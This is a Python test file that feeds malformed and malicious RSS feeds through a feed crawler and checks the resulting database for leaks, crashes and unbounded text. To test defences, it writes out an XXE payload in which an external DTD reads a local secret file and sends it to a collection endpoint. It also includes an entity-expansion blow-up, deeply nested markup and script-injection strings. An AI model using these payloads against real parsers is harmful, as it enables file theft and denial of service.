"""Malformed and malicious feeds through ONE real ``rsiwatch crawl`` into a real database.

Each feed is a source on a local server: the fixtures in ``tests/fixtures/hostile/`` (each with its
expectation in ``expect.json``), generated ones (10,000 items, 100 kB titles, an entity blow-up, deep
markup) and every file of feedparser's ill-formed corpus in ``../shared/feeds`` when it is there.  Then
the database is read: what must be there is, what must not is not, no stored text breaks the parser's
promises, the secret file an external entity names never reaches the database, and the DTD it points
at is never fetched.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hardening_support import (
    HOSTILE_FIXTURES,
    SHARED_FEEDS,
    FaultResult,
    connect,
    fetch_seconds,
    rss,
    run_measured,
    status_json,
    text_problems,
    work_ids,
    write_config,
)
from local_server import LocalServer, Request, Response

SECRET = "RSIWATCH-SECRET-7f3a9c"
BIG_FEED = 10_000
# One ordinary malformed feed: fetch, parse, store, score (well under 1 s unloaded).  Feeds of one crawl are
# fetched and parsed ahead in parallel, so a feed's recorded time can include the 10,000-item neighbour's
# (33 s each beside a CPU hog): the bound only catches a hang.
FEED_TIME_BOUND_S = 120.0
BIG_FEED_TIME_BOUND_S = 150.0
# the whole crawl process, 10,000-item feed and entity blow-up included: 10,000 new works stored and scored in
# one go, on a loaded 2-core box
PEAK_RSS_BOUND_BYTES = 768 * 2**20


def _generated() -> dict[str, bytes]:
    huge = "T" * 100_000
    blowup_entity = "x" * 50_000
    deep = "<div>" * 20_000 + "deep" + "</div>" * 20_000
    return {
        "ten_thousand.xml": rss(
            [
                {
                    "title": f"Item {i} of ten thousand",
                    "link": f"https://big.example.org/{i}",
                    "guid": f"big-{i}",
                    "description": f"Number {i}.",
                }
                for i in range(BIG_FEED)
            ]
        ),
        "huge_titles.xml": rss(
            [
                {"title": f"{i} {huge}", "link": f"https://huge.example.org/{i}", "description": huge * 2}
                for i in range(10)
            ]
        ),
        "entity_blowup.xml": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{blowup_entity}">]><rss version="2.0"><channel>'
            f"<title>t</title><item><title>{'&a;' * 2000}</title><link>https://blowup.example.org/1</link></item>"
            f"</channel></rss>"
        ).encode(),
        "deep_markup.xml": rss([{"title": "Deep markup", "link": "https://deep.example.org/1", "description": deep}]),
        "many_authors_links.xml": rss(
            [
                {
                    "title": "Many authors and links",
                    "link": "https://many.example.org/1",
                    "raw_author": "x@example.org (" + ", ".join(f"Author {i}" for i in range(5000)) + ")",
                    "description": " ".join(f"https://arxiv.org/abs/2401.{i:05d}" for i in range(3000)),
                }
            ]
        ),
    }


def _fixture(path: Path, secret_path: Path, dtd_url: str) -> bytes:
    return (
        path.read_bytes().replace(b"{SECRET_PATH}", str(secret_path).encode()).replace(b"{DTD_URL}", dtd_url.encode())
    )


def _source_name(prefix: str, file_name: str) -> str:
    return prefix + re.sub(r"[^A-Za-z0-9_.-]", "-", Path(file_name).stem)


def run(workdir: Path, include_shared: bool = True) -> FaultResult:
    result = FaultResult("Malformed and malicious feeds (one crawl into a real database)")
    result.held = (
        "every expectation met in the database; no entity expanded or fetched, the secret file never "
        "stored; no control character or uncapped text stored; all 10,000 items landed"
    )
    secret_path = workdir / "secret.txt"
    workdir.mkdir(parents=True, exist_ok=True)
    secret_path.write_text(SECRET + "\n")
    server = LocalServer().start()
    dtd_hits: list[str] = []

    def dtd(request: Request) -> Response:
        dtd_hits.append(request.path)
        body = (
            f'<!ENTITY ext SYSTEM "file://{secret_path}"><!ENTITY % all "<!ENTITY send SYSTEM '
            f"'{server.url}/collect?%file;'>\"> %all;"
        ).encode()
        return Response(200, body, {"Content-Type": "application/xml-dtd"})

    try:
        server.add("/evil.dtd", handler=dtd)
        server.add("/collect", handler=dtd)
        expect = json.loads((HOSTILE_FIXTURES / "expect.json").read_text())
        sources, bodies = [], {}
        for name in sorted(k for k in expect if not k.startswith("_")):
            bodies[_source_name("x-", name)] = _fixture(HOSTILE_FIXTURES / name, secret_path, server.url + "/evil.dtd")
        for name, body in _generated().items():
            bodies[_source_name("gen-", name)] = body
        shared = sorted((SHARED_FEEDS / "feedparser_illformed").glob("*")) if include_shared else []
        for path in shared:
            if path.is_file():
                bodies[_source_name("illformed-", path.name)] = path.read_bytes()
        for source, body in bodies.items():
            url = server.add(f"/{source}", body, headers={"Content-Type": "application/rss+xml"})
            sources.append({"name": source, "kind": "feed", "url": url})
        result.cases = len(bodies)
        result.notes.append(
            f"{len(expect) - 1} fixtures, {len(_generated())} generated, {len(shared)} ill-formed corpus files"
        )

        project = workdir / "feeds"
        write_config(project, sources)
        crawl = run_measured(["crawl", "--json"], project, timeout=900)
        result.check(crawl.returncode == 0, f"crawl exited {crawl.returncode}: {crawl.stderr[-800:]}")
        result.check("Traceback" not in crawl.stderr, f"traceback: {crawl.stderr[-800:]}")
        result.check(SECRET not in crawl.stdout + crawl.stderr, "the secret file's text reached the crawl's output")
        result.check(not dtd_hits, f"the crawler fetched an external DTD or entity: {dtd_hits}")
        result.check(crawl.max_rss_bytes <= PEAK_RSS_BOUND_BYTES, f"peak RSS {crawl.max_rss_bytes / 2**20:.0f} MiB")
        result.notes.append(
            f"crawl {crawl.seconds:.0f} s, peak RSS {crawl.max_rss_bytes / 2**20:.0f} MiB "
            f"(bound {PEAK_RSS_BOUND_BYTES / 2**20:.0f})"
        )
        _check_database(result, project, expect)
    finally:
        server.stop()
    return result


def _check_database(result: FaultResult, project: Path, expect: dict[str, dict]) -> None:
    status = status_json(project)["sources"]
    for path in project.glob("candidates.db*"):
        result.check(SECRET.encode() not in path.read_bytes(), f"the secret file's text is in {path.name}")
    conn = connect(project)
    try:
        result.check(conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok", "integrity_check failed")
        for problem in text_problems(conn):
            result.failures.append(problem)
        seconds = fetch_seconds(conn)
        for name, row in status.items():
            error = row.get("last_error") or ""
            result.check("internal error" not in error, f"{name}: {error}")
            bound = BIG_FEED_TIME_BOUND_S if name == "gen-ten_thousand" else FEED_TIME_BOUND_S
            result.check(
                seconds.get(name, 0.0) <= bound, f"{name}: took {seconds.get(name, 0):.1f} s (bound {bound:.0f})"
            )
        result.notes.append(
            f"slowest feed {max(seconds.values()):.1f} s; 10,000 items in {seconds.get('gen-ten_thousand', 0):.1f} s"
        )
        ids = work_ids(conn)
        for file_name, wanted in expect.items():
            if file_name.startswith("_"):
                continue
            _check_fixture(result, conn, status, _source_name("x-", file_name), wanted, ids)
        big = {f"url:https://big.example.org/{i}" for i in range(BIG_FEED)}
        result.check(big <= ids, f"10,000-item feed: {len(big - ids)} items missing")
        titles = [
            r[0] for r in conn.execute("SELECT length(title) FROM works WHERE id LIKE 'url:https://huge.example.org/%'")
        ]
        result.check(len(titles) == 10 and max(titles) <= 1000, f"100 kB titles: stored lengths {titles}")
        result.check(
            "url:https://blowup.example.org/1" in ids or status["gen-entity_blowup"]["last_error"],
            "entity blow-up feed neither stored nor recorded as an error",
        )
        for row in conn.execute("SELECT * FROM works WHERE id LIKE '%example.org%'"):
            for column in ("title", "summary", "authors"):
                result.check(SECRET not in (row[column] or ""), f"secret in works.{column}")
    finally:
        conn.close()


def _check_fixture(result: FaultResult, conn, status: dict, source: str, wanted: dict, ids: set[str]) -> None:
    row = status.get(source, {})
    if wanted.get("outcome") == "ok":
        result.check(row.get("consecutive_failures") == 0 and row.get("last_success"), f"{source}: not ok: {row}")
    for work_id, fields in wanted.get("present", {}).items():
        if not result.check(work_id in ids, f"{source}: {work_id} missing"):
            continue
        stored = dict(conn.execute("SELECT * FROM works WHERE id = ?", (work_id,)).fetchone())
        for name, value in fields.items():
            result.check(stored[name] == value, f"{source}: {work_id}.{name} is {stored[name]!r}, expected {value!r}")
        if "title_max" in wanted:
            result.check(len(stored["title"]) <= wanted["title_max"], f"{source}: title {len(stored['title'])} long")
    for work_id in wanted.get("absent", []):
        result.check(work_id not in ids, f"{source}: {work_id} should not be stored")
    sightings = conn.execute("SELECT work_id, title, url FROM sightings WHERE source = ?", (source,)).fetchall()
    if "count" in wanted:
        works = {s["work_id"] for s in sightings}
        result.check(len(works) == wanted["count"], f"{source}: {len(works)} works, expected {wanted['count']}")
    if "sightings" in wanted:
        result.check(
            len(sightings) == wanted["sightings"],
            f"{source}: {len(sightings)} sightings, expected {wanted['sightings']}",
        )
    for title in wanted.get("titles", []):
        result.check(title in {s["title"] for s in sightings}, f"{source}: no item titled {title!r}")
    for key in ("no_url_like", "no_text_like"):
        if key in wanted:
            needle = wanted[key].lower()
            for s in sightings:
                text = " ".join(str(v) for v in dict(s).values()).lower()
                work = conn.execute("SELECT title, summary, url FROM works WHERE id = ?", (s["work_id"],)).fetchone()
                text += " ".join(str(v) for v in work)
                result.check(needle not in text.lower(), f"{source}: {needle!r} stored: {text[:120]!r}")


@pytest.mark.slow
def test_malformed_and_malicious_feeds_through_a_real_crawl(tmp_path: Path) -> None:
    result = run(tmp_path, include_shared=(SHARED_FEEDS / "feedparser_illformed").is_dir())
    assert result.ok, "\n".join(result.failures + result.notes)


def test_markup_escaped_twice_is_stripped_too() -> None:
    """Regression: ``&lt;script&gt;`` in an HTML author field was stored as a literal ``<script>`` tag."""
    from crawler.text import clean_text

    assert clean_text("&lt;script&gt;alert(1)&lt;/script&gt; Eve &lt;b onmouseover=x&gt;", 200) == "Eve"
    assert clean_text("x &lt; y and y &gt; z", 200) == "x < y and y > z"
